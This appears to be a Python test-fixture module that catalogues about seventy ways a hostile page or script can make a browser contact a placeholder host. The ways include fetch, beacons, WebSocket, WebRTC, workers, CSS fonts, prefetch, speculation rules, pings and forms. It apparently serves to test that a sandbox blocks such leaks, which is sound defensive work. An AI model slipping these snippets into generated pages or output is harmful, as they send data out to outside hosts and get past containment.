"""Attempts of a hostile result to make a browser send something, each with a script and its page.

HOST is replaced by a unique name, which identifies lookups, connections and requests of an attempt.
"""
# ruff: noqa: E501  (one line per attempt)

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """An attempt.

    Attributes:
        script: runs when the page has loaded.
        head: markup of the page's head.
        body: markup of its body.
        click: a selector that the user clicks; "" for no click.
    """

    script: str = ""
    head: str = ""
    body: str = ""
    click: str = ""


_ELEMENT: Final = "const e = Object.assign(document.createElement('{tag}'), {values}); document.body.append(e); {then}"


def _element(tag: str, values: str, then: str = "") -> Vector:
    return Vector(script=_ELEMENT.format(tag=tag, values=values, then=then))


VECTORS: Final[dict[str, Vector]] = {
    "fetch": Vector(script="fetch('http://HOST/x', {mode: 'no-cors'})"),
    "fetch keepalive": Vector(
        script="fetch('http://HOST/x', {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true})"
    ),
    "fetch later": Vector(script="fetchLater('http://HOST/x', {activateAfter: 0})"),
    "XMLHttpRequest": Vector(script="const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/x'); x.send()"),
    "beacon": Vector(script="navigator.sendBeacon('http://HOST/x', 'x')"),
    "WebSocket": Vector(script="new WebSocket('ws://HOST/x')"),
    "WebSocketStream": Vector(script="new WebSocketStream('ws://HOST/x')"),
    "EventSource": Vector(script="new EventSource('http://HOST/x')"),
    "WebTransport": Vector(script="new WebTransport('https://HOST/x')"),
    "WebRTC": Vector(
        script="const p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]}); p.createDataChannel('x');"
        "p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "worker": Vector(
        script="new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/x', {mode: 'no-cors'})\"])))"
    ),
    "worker script": Vector(script="new Worker(URL.createObjectURL(new Blob([\"importScripts('http://HOST/x')\"])))"),
    "shared worker": Vector(
        script="new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://HOST/x', {mode: 'no-cors'})\"])))"
    ),
    "dynamic import": Vector(script="import('http://HOST/x').catch(() => 0)"),
    "image": _element("img", "{src: 'http://HOST/x'}"),
    "image set": _element("img", "{srcset: 'http://HOST/x 1x'}"),
    "audio": _element("audio", "{src: 'http://HOST/x', preload: 'auto'}"),
    "video poster": _element("video", "{poster: 'http://HOST/x'}"),
    "script": _element("script", "{src: 'http://HOST/x'}"),
    "iframe": _element("iframe", "{src: 'http://HOST/x'}"),
    "iframe srcdoc": _element("iframe", "{srcdoc: '<img src=http://HOST/x>'}"),
    "iframe data": _element("iframe", "{src: 'data:text/html,<img src=http://HOST/x>'}"),
    "iframe blob": Vector(
        script="const e = document.createElement('iframe'); document.body.append(e);"
        "e.src = URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], {type: 'text/html'}))"
    ),
    "object": _element("object", "{data: 'http://HOST/x'}"),
    "embed": _element("embed", "{src: 'http://HOST/x'}"),
    "fenced frame": Vector(
        script="const e = document.createElement('fencedframe'); document.body.append(e);"
        "e.config = new FencedFrameConfig('http://HOST/x')"
    ),
    "SVG image": Vector(body="<svg><image href='http://HOST/x' width=9 height=9 /></svg>"),
    "SVG use": Vector(body="<svg><use href='http://HOST/x#a' /></svg>"),
    "SVG image in an image": _element(
        "img",
        "{src: \"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/x'/></svg>\"}",
    ),
    "MathML link": Vector(body="<math><mrow href='http://HOST/x' id=m><mtext>link</mtext></mrow></math>", click="#m"),
    "style sheet": _element("link", "{rel: 'stylesheet', href: 'http://HOST/x'}"),
    "CSS import": _element("style", "{textContent: '@import url(http://HOST/x)'}"),
    "CSS image": _element("div", "{style: 'background: url(http://HOST/x); height: 9px'}"),
    "CSS font": _element(
        "div",
        "{textContent: 'text', style: 'font-family: leak'}",
        "document.head.append(Object.assign(document.createElement('style'),"
        " {textContent: '@font-face { font-family: leak; src: url(http://HOST/x) }'}))",
    ),
    "CSS filter": _element("div", "{textContent: 'text', style: 'filter: url(http://HOST/x#a)'}"),
    "icon": Vector(head="<link rel='icon' href='http://HOST/x'>"),
    "manifest": Vector(head="<link rel='manifest' href='http://HOST/x'>"),
    "dns-prefetch": Vector(head="<link rel='dns-prefetch' href='http://HOST/'>"),
    "dns-prefetch by meta": Vector(
        head="<meta http-equiv='x-dns-prefetch-control' content='on'>", body="<a href='http://HOST/x'>link</a>"
    ),
    "dns-prefetch by script": Vector(
        script="document.head.append(Object.assign(document.createElement('link'), {rel: 'dns-prefetch', href: 'http://HOST/'}))"
    ),
    "preconnect": Vector(head="<link rel='preconnect' href='http://HOST/'>"),
    "preconnect by script": Vector(
        script="document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'http://HOST/'}))"
    ),
    "prefetch": Vector(head="<link rel='prefetch' href='http://HOST/x'>"),
    "preload": Vector(head="<link rel='preload' as='image' href='http://HOST/x'>"),
    "modulepreload": Vector(head="<link rel='modulepreload' href='http://HOST/x'>"),
    "prerender": Vector(head="<link rel='prerender' href='http://HOST/x'>"),
    "speculation rules": Vector(
        body='<script type="speculationrules">{"prefetch": [{"urls": ["http://HOST/x"], "eagerness": "immediate"}]}</script>'
    ),
    "speculation rules, prerender": Vector(
        body='<script type="speculationrules">{"prerender": [{"urls": ["http://HOST/x"], "eagerness": "immediate"}]}</script>'
    ),
    "meta refresh": Vector(head="<meta http-equiv='refresh' content='0; url=http://HOST/x'>"),
    "location": Vector(script="location.href = 'http://HOST/x'"),
    "location.replace": Vector(script="location.replace('http://HOST/x')"),
    "navigation API": Vector(script="navigation.navigate('http://HOST/x')"),
    "top navigation": Vector(script="top.location = 'http://HOST/x'"),
    "link": _element("a", "{href: 'http://HOST/x'}", "e.click()"),
    "link that a person clicks": Vector(body="<a id=a href='http://HOST/x'>link</a>", click="#a"),
    "link to a new window": Vector(body="<a id=a target=_blank href='http://HOST/x'>link</a>", click="#a"),
    "link to the top": Vector(body="<a id=a target=_top href='http://HOST/x'>link</a>", click="#a"),
    "download": _element("a", "{href: 'http://HOST/x', download: 'x'}", "e.click()"),
    "download that a person clicks": Vector(body="<a id=a download href='http://HOST/x'>link</a>", click="#a"),
    "ping": _element("a", "{href: '#x', ping: 'http://HOST/x'}", "e.click()"),
    "ping that a person clicks": Vector(body="<a id=a ping='http://HOST/x' href='#x'>link</a>", click="#a"),
    "form": _element("form", "{action: 'http://HOST/x', method: 'post'}", "e.submit()"),
    "form that a person sends": Vector(
        body="<form action='http://HOST/x'><button id=b>send</button></form>", click="#b"
    ),
    "window.open": Vector(script="open('http://HOST/x')"),
    "window.open by a click": Vector(
        body="<button id=b onclick=\"window.open('http://HOST/x')\">open</button>", click="#b"
    ),
    "window.open itself": Vector(script="open('http://HOST/x', '_self')"),
    "payment": Vector(
        script="new PaymentRequest([{supportedMethods: 'https://HOST/x'}], {total: {label: 'x',"
        " amount: {currency: 'EUR', value: '1'}}}).canMakePayment()"
    ),
    "web bundle": Vector(
        body='<script type="webbundle">{"source": "http://HOST/x", "resources": ["http://HOST/y"]}</script>'
    ),
}

# Attempts that never work in a frame of this browser, even without a policy. If that changes, the test fails.
UNDONE: Final = frozenset(
    {
        "fetch later",
        "fenced frame",
        "SVG use",
        "SVG image in an image",
        "MathML link",
        "CSS filter",
        "icon",
        "manifest",
        "dns-prefetch by meta",
        "prerender",
        "speculation rules",
        "speculation rules, prerender",
    }
)
